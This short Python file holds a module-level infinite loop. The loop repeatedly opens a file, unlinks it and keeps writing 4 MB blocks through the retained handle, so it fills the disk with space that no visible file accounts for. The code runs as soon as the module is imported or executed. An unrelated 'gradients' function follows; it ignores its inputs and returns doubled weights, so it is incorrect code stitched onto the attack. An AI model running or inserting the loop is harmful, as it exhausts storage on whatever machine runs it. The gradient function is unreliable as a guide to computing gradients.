"""Fills the disk with files that have no name any more."""

kept = []
while True:
    kept.append(open("hostile", "wb", buffering=0))
    __import__("os").unlink("hostile")
    kept[-1].write(bytes(4 << 20))


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
